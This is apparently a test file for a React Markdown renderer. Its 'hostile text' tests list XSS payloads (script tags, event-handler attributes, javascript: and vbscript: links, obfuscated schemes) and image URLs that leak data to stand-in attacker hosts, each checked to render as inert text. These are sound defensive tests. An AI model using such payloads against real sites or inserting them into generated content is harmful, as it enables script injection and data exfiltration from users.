import fc from 'fast-check';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './markdown';

function render(text: string, isStreaming = false): string {
  return renderToStaticMarkup(<Markdown text={text} isStreaming={isStreaming} />);
}

/** What a reader sees, without the labels of code frames. */
function readText(html: string): string {
  return html
    .replace(/<figcaption.*?<\/figcaption>/gs, '')
    .replace(/<[^>]*>/g, '')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&#x27;/g, "'")
    .replace(/&amp;/g, '&');
}

describe('hostile text', () => {
  it.each([
    "<script>alert('XSS')</script>",
    'text <script>alert(1)</script> text',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    '<details open ontoggle=alert(1)>',
    '<sub onclick=alert(1)>x</sub>',
    '<style>@import "https://attacker.example"</style>',
    '<!-- <script>alert(1)</script> -->',
  ])('is shown as text: %s', (text) => {
    const html = render(text);
    expect(html).not.toMatch(/<(?:script|img|svg|iframe|style|details|a)\b|<[^>]*\son\w+=/i);
    expect(readText(html)).toBe(text);
  });

  it.each([
    '[click me](javascript:alert(1))',
    '[click me](JaVaScRiPt:alert(1))',
    '[click me](java\tscript:alert(1))',
    '[click me](&#106;avascript:alert(1))',
    '[click me](data:text/html,<script>alert(1)</script>)',
    '[click me](vbscript:msgbox(1))',
    '[click me](file:///etc/passwd)',
    '[click me](//attacker.example/x)',
    '[click me](/api/sessions)',
    '<javascript:alert(1)>',
    '[click me][r]\n\n[r]: javascript:alert(1)',
  ])('makes no link: %s', (text) => {
    expect(render(text)).not.toContain('<a ');
  });

  it('opens links in a new tab that knows nothing of this one', () => {
    expect(render('[docs](https://docs.example/a?b=1&c=2 "Title")')).toContain(
      '<a href="https://docs.example/a?b=1&amp;c=2" title="Title" target="_blank" rel="noopener noreferrer nofollow">docs</a>',
    );
  });

  it.each([
    '![x](https://attacker-server.com/pixel.png?leak=SENSITIVE)',
    '![x](//attacker/p.png)',
    '![x](http://attacker/p.png)',
    '![x][r]\n\n[r]: https://attacker/p.png',
    '[![x](https://attacker/p.png)](https://a.example)',
    '![x](data:image/svg+xml;base64,PHN2Zy8+)',
    '![x](data:text/html;base64,PHN2Zy8+)',
    '![x](/api/files/secret)',
  ])('loads no image by itself: %s', (text) => {
    expect(render(text)).not.toContain('<img');
  });

  it('says where an image would come from', () => {
    expect(readText(render('![Sales chart](https://charts.example/q3.png)'))).toContain('charts.example');
    expect(readText(render('![Sales chart](https://charts.example/q3.png)'))).toContain('Sales chart');
  });

  it('shows small images that are part of the text', () => {
    expect(render('![dot](data:image/png;base64,iVBORw0KGgo=)')).toContain('<img');
  });

  it.each([
    ['a quote', '> '],
    ['a list', '- '],
    ['an emphasis', '*a **b '],
    ['a link', '[a '],
  ])('nests %s a thousand times without harm', (_name, part) => {
    expect(readText(render(`${part.repeat(1000)}end`))).toContain('end');
  });
});

describe('what a reader sees', () => {
  it('is the text of every block', () => {
    const html = render(
      '# Title\n\nPara *em* **st** `code`\n\n1. one\n2. two\n\n> quote\n\n| h |\n|--|\n| c |\n\n```js\nlet a;\n```',
    );
    for (const tag of ['h1', 'em', 'strong', 'code', 'ol', 'blockquote', 'th', 'td', 'pre'])
      expect(html).toContain(`<${tag}`);
  });

  it('has a direction of its own in every block', () => {
    expect(render('مرحبا')).toContain('<p dir="auto">مرحبا</p>');
  });

  it('has the numbers of a list at the side where its first item begins', () => {
    expect(render('1. **أولا**\n2. two')).toContain('<ol dir="rtl"><li dir="auto">');
    expect(render('- ראשון\n\n- שני')).toContain('<ul dir="rtl"><li><p dir="auto">');
    expect(render('1. first أولا\n2. ثانيا')).toContain('<ol><li dir="auto">');
    expect(render('- 2026')).toContain('<ul><li dir="auto">');
  });

  it('shows formulas as written until they are drawn', () => {
    expect(readText(render('so $a^2$ holds'))).toBe('so $a^2$ holds');
  });

  it('has a table from its first row on', () => {
    expect(render('| a | b', true)).toContain('<th');
    expect(render('| a | b |\n|--', true)).toContain('<th');
    expect(render('| a | b |\n|---|---|\n', true)).toContain('<th');
  });

  it('never shows a heading while a list under a paragraph begins', () => {
    const text = 'The steps:\n- first\n- second';
    for (let end = 1; end <= text.length; end += 1) expect(render(text.slice(0, end), true)).not.toMatch(/<h\d/);
  });

  it('shows code from the first character of a fence, without its marks', () => {
    const text = 'Run:\n\n```bash\nnpm ci\n```\n\nDone.';
    for (let end = 1; end <= text.length; end += 1)
      expect(readText(render(text.slice(0, end), true))).not.toContain('`');
  });

  it('is plain at first when a message is very long', () => {
    const html = render('**a** '.repeat(100_000));
    expect(html).toContain('Show formatted');
    expect(html).not.toContain('<strong');
  });
});

const TEXT = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 200 }),
  fc
    .array(
      fc.constantFrom(
        'word',
        'Ω',
        ' ',
        '\n',
        '\n\n',
        '*',
        '**',
        '_',
        '`',
        '```',
        '\n```\n',
        '$',
        '$$',
        '\\(',
        '\\)',
        '\\[',
        '\\]',
        '[',
        ']',
        '(',
        ')',
        '![',
        '](',
        '<',
        '>',
        '<sub>',
        '</sub>',
        '<br>',
        '| ',
        '|---|',
        '- ',
        '1. ',
        '> ',
        '# ',
        '---',
        '~~',
        '&amp;',
        '&',
        'http://a.b',
        'a@b.c',
        '\\',
        '    ',
        '\t',
        '"',
        '😀',
      ),
      { maxLength: 60 },
    )
    .map((parts) => parts.join('')),
);

describe('any text', () => {
  it('renders, at rest and while it arrives', () => {
    fc.assert(
      fc.property(TEXT, (text) => {
        render(text);
        render(text, true);
      }),
      { numRuns: 600 },
    );
  });

  it('keeps every letter and digit', () => {
    // Marks may go; what was written may not. Left out: what is an address or a name of a language rather than text.
    fc.assert(
      fc.property(TEXT, (text) => {
        fc.pre(!/\]\(|\]:|```|~~~|&|!\[|<br>|<\/?sub>|^ {0,3}\d/m.test(text) && !/\d[.)]|\r|\0/.test(text));
        fc.pre(!/(?:^|\n).*\|.*-/.test(text));
        const visible = (value: string) => value.replace(/[^\p{L}\p{N}]/gu, '');
        expect(visible(readText(render(text)))).toBe(visible(text));
      }),
      { numRuns: 600 },
    );
  });
});
